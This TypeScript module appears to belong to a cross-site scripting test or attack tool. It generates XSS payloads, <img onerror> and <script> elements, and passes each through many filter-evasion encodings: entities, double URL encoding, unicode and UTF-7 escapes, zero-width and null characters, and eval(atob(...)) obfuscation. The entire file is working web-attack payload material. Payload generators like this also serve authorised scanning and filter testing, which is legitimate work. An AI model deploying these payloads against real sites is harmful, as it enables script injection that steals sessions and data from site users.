import type { InjectionForm } from './injection-form.ts'

/** One element in every writing that some program decodes once too often. */
const encodings: ((text: string) => string)[] = [
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  (text) => text.replaceAll('<', '&#x3c').replaceAll('>', '&#x3e'),
  (text) => text.replaceAll('<', '&#0000060').replaceAll('>', '&#0000062'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '%253C').replaceAll('>', '%253E'),
  (text) => text.replaceAll('<', String.raw`\u003c`).replaceAll('>', String.raw`\u003e`),
  (text) => text.replaceAll('<', String.raw`\x3c`).replaceAll('>', String.raw`\x3e`),
  (text) => text.replaceAll('<', String.raw`\74`).replaceAll('>', String.raw`\76`),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '\\<').replaceAll('>', '\\>'),
  (text) => text.replaceAll('<', '<\u200b'),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => `\ufeff${text}`,
  (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll(' ', '\u00a0'),
  (text) => text.replaceAll(' ', '/**/'),
  (text) => text.replaceAll(' ', '%20'),
]

const elements = [(run: string) => `<img src=x onerror=${run}>`, (run: string) => `<script>${run}</script>`]

/** The script itself in entities, which an attribute decodes before it runs. */
const inEntities = (run: string) => Array.from(run, (sign) => `&#${sign.codePointAt(0)};`).join('')

export const encodedForms: InjectionForm[] = [
  ...encodings.flatMap((encode) =>
    elements.map(
      (element): InjectionForm =>
        ({ run }) =>
          encode(element(run)),
    ),
  ),
  ({ run }) => `<img src=x onerror=${inEntities(run)} alt="${run}">`,
  ({ run }) => `<a href="javascript:${inEntities(run)}">${run}</a>`,
  ({ run }) => `<img src=x onerror=eval(atob('${btoa(run)}')) alt="${run}">`,
  ({ run }) => `<img src=x onerror="self['r'+'an'](${run.slice(4, -1)})" alt="${run}">`,
]
